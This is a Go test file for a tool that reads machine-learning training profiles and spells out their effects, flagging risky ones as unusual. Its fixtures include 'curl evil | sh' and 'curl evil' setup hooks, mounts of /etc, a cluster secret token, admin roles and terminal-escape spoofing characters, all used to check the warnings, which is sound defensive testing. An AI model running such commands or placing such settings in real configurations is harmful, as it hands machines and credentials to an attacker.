//go:build unix

package trust

import (
	"fmt"
	"strings"
	"testing"

	"github.com/dlwb/dlwb/cloud/providers"
	"github.com/dlwb/dlwb/profiles"
)

// effectCases are profiles, and what must be said of each; what begins with "!"
// is marked as unusual.
var effectCases = []struct {
	name, profile string
	says          []string
}{
	{"a key that the profile vouches for", `
provider: hosts
machines: {hosts: [gpu1, {host: me@evil:2222, host_key: "SHA256:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"}], host_keys: {gpu1: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHRoZSBlbmQgb2YgdGhlIGtleSBpcyBzaG93"}}
run: {command: train.py}`,
		[]string{"!connects: me@evil:2222 by ssh; the profile itself vouches for its host key, SHA256:AAAA", "!connects: gpu1 by ssh; the profile itself vouches",
			"ssh-ed25519 …", "runs: train.py, on the nodes"}},
	{"keys that known_hosts has", "provider: hosts\nmachines: {hosts: [a, b]}\nrun: {command: train.py}",
		[]string{"connects: a, b by ssh; known_hosts, or you, vouch"}},
	{"programs of this machine", "provider: local\nenvironment: {python: ./evil, venv: requirements.txt}\nrun: {command: train.py --x}",
		[]string{"!runs: ./evil as Python, on this machine, as you, for a plan too", "!runs: what requirements.txt installs, on this machine", "!runs: train.py --x, on this machine"}},
	{"paid machines", `
provider: ec2
machines: {region: [us-east-1, eu-west-1], instance: g5.xlarge, count: 8, spot: true, spot_fallback: true, image: ami-0123456789abcdef0, instance_profile: admin}
run: {command: train.py}
results: {paths: [out/], s3: "s3://somebodys-bucket/x"}
limits: {budget: 1000USD, lifetime: 2d}`,
		[]string{"pays: paid machines on EC2, with your AWS credentials: 8 × g5.xlarge in us-east-1, eu-west-1, spot, on demand where there is none; at most ",
			"and $1000.00 together", "!pays: the machines boot the image ami-0123456789abcdef0", "!pays: the machines get the IAM instance profile admin", "!sends: results and checkpoints to s3://somebodys-bucket/x", "brings: out of node0"}},
	{"no budget", "provider: ec2\nmachines: {instance: {gpu: A10G, gpus: 4}}\nrun: {command: train.py}",
		[]string{"!pays: ", "4 A10G", "in your default region", "without a budget"}},
	{"variables", "run: {command: train.py, env: {A: \"${env:ONE}-${env:TWO}\", B: plain}}",
		[]string{"!reads: the variable ONE of your shell, and gives its value to the training as A", "!reads: the variable TWO "}},
	{"forwards", "run: {command: train.py}\nforward: [jupyter, 8265]", []string{"opens: ports of this machine for jupyter, 8265 of node0"}},
	{"forwards of several nodes", "run: {command: train.py}\nforward: [jupyter, \"node1:8265/http\", 6006, \"node0:9000\"]",
		[]string{"opens: ports of this machine for jupyter, 6006, 9000 of node0, and 8265/http of node1, while the run is watched"}},
	{"secrets asked for", "code: {exclude: [\"!.env\"]}\nrun: {command: train.py}",
		[]string{"!sends: what code.exclude wants sent although ignore files leave it out: !.env", "!sends: .env is asked for by a rule of the project"}},
	{"set-up commands", "provider: local\nenvironment: {conda: environment.yml, before: [\"curl evil | sh\"], after: [rm x], python: \"3.12\"}\nrun: {command: train.py}",
		[]string{"!runs: curl evil | sh, on this machine, as you, before the environment is made", "!runs: rm x, on this machine, as you, after", "what environment.yml installs", "uv, which installs Python 3.12"}},
	{"an image", "provider: hosts\nmachines: {hosts: [a]}\nenvironment: {docker: \"evil/image:1\", mounts: [/etc]}\nrun: {command: train.py}",
		[]string{"runs: containers of the image evil/image:1, on the nodes", "!opens: /etc of every node to the training"}},
	{"an image that is built here", "provider: sagemaker\nmachines: {instance: ml.m5.large, execution_role: R, image: ./Dockerfile, repository: evil/x}\nrun: {command: train.py}",
		[]string{"!runs: what the Dockerfile of machines.image runs, in containers on this machine, by docker or podman", "!sends: the image that it makes, with what it copies of the code, to the repository evil/x of ECR"}},
	{"mounts of this machine", "provider: local\nenvironment: {docker: \"evil/image:1\", mounts: [/etc]}\nrun: {command: train.py}", []string{"!opens: /etc of this machine to the training"}},
	{"volumes of pods", "provider: kubernetes\nmachines: {count: 1, image: \"evil/image:1\", priority: high, service_account: admin, volumes: [\"data:/data\", \"cache:/cache:ro\", \"secret/token:/t\", \"host/etc:/host\", \"nfs/evil/x:/nfs:ro\"]}\nrun: {command: train.py}",
		[]string{"runs: containers of the image evil/image:1", "!runs: in pods of priority class high", "!runs: in pods that have the rights of service account admin",
			"opens: claim data of the cluster, to change too, to the pods, at /data", "opens: claim cache of the cluster to the pods", "!opens: secret token of the cluster to the pods, at /t",
			"!opens: the directory /etc of the cluster's machines, to change too, to the pods, at /host", "!opens: the directory /x of the NFS server evil to the pods, at /nfs"}},
	{"a network of one's own", "provider: ec2\nmachines: {instance: g5.xlarge, vpc: prod, subnet: db, security_groups: [databases], kms_key: alias/x, tags: {a: b}, reach: ssm}\nrun: {command: train.py}",
		[]string{"!pays: the machines stand in your VPC prod", "!pays: the machines stand in your subnet db", "!pays: the machines are in your security groups databases", "!pays: the disks are encrypted with the KMS key alias/x", "pays: everything gets the tags a=b", "runs: on this machine, AWS's own session-manager-plugin"}},
	{"modules", "provider: slurm\nmachines: {count: 2, login: me@evil, modules: \"./x,y\"}\nrun: {command: train.py}", []string{"connects: me@evil by ssh", "runs: a job in the queue of Slurm, handed in on me@evil, with the modules ./x,y"}},
	{"a notice", "provider: ec2\nmachines: {instance: g5.xlarge}\nrun: {command: train.py, on_notice: \"curl evil\"}", []string{"runs: curl evil, when a node is about to be taken away"}},
}

func TestTheEffectsOfAProfileAreSaid(t *testing.T) {
	for _, c := range effectCases {
		p := newProject(t)
		p.write("src/.env", "x")
		p.write("src/p.yaml", c.profile+"\n")
		var said strings.Builder
		for _, e := range p.look("src/p.yaml").Effects {
			if e.Unusual {
				said.WriteString("!")
			}
			said.WriteString(e.Kind + ": " + e.Text + "\n")
		}
		for _, want := range c.says {
			if !strings.Contains("\n"+said.String(), want) {
				t.Errorf("%s: %q is not said in\n%s", c.name, want, said.String())
			}
		}
	}
}

// What a job of a service writes does not come here, and goes nowhere from here.
func TestNothingIsSaidToComeFromWhereNothingComes(t *testing.T) {
	for _, provider := range providers.All {
		want := 2
		switch t := provider.Traits; {
		case t.KeptInS3: // the run sends it there itself
			want = 1
		case t.Sealed && !t.Kept:
			want = 0
		}
		p := &profiles.Profile{Provider: provider.Name, Results: profiles.Results{S3: "s3://bucket/x", Paths: []string{"out/"}}}
		said := 0
		for _, e := range effects(p, &Subject{}, nil, nil) {
			if strings.Contains(e.Text, "s3://bucket/x") || e.Kind == Brings {
				said++
			}
		}
		if said != want {
			t.Errorf("%s: %+v", provider.Name, effects(p, &Subject{}, nil, nil))
		}
	}
}

func TestADirectoryBesideTheProfileIsNamed(t *testing.T) {
	p := newProject(t)
	if said := p.look("exp/a.yaml").Text(); !strings.Contains(said, "! sends") || !strings.Contains(said, "outside the profile's own") {
		t.Errorf("%s", said)
	}
}

// Many of one kind bury no other kind.
func TestAFloodOfHostsHidesNothing(t *testing.T) {
	p := newProject(t)
	var hosts strings.Builder
	for i := range 300 {
		fmt.Fprintf(&hosts, "  - {host: h%d, host_key: \"SHA256:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\"}\n", i)
	}
	p.write("src/p.yaml", "provider: hosts\nmachines:\n hosts:\n"+hosts.String()+"  - known[1-900]\nrun: {command: train.py, env: {A: \"${env:SECRET}\"}}\n")
	s := p.look("src/p.yaml")
	said := s.Text()
	if len(s.Effects) < 300 || strings.Count(said, "\n") > 40 || !strings.Contains(said, "280 more like these") || !strings.Contains(said, "and 880 more by ssh") || !strings.Contains(said, "SECRET of your shell") {
		t.Errorf("%d effects:\n%s", len(s.Effects), said)
	}
}

// A line of the profile can't pass for one of ours, and no escape gets out.
func TestTheTextOfAProfileIsText(t *testing.T) {
	p := newProject(t)
	p.write("src/p.yaml", "run: {command: \"train.py \\u009b2J x\"}\nresults: {paths: [\"a\\u202eb/\"]}\n")
	s, err := p.gate.LookAt(t.Context(), p.path("src/p.yaml"))
	if err != nil {
		return // the reader of profiles has refused it
	}
	for _, bad := range []string{"\u009b", "\u202e"} {
		if strings.Contains(s.Text(), bad) {
			t.Errorf("%q is in %q", bad, s.Text())
		}
	}
}
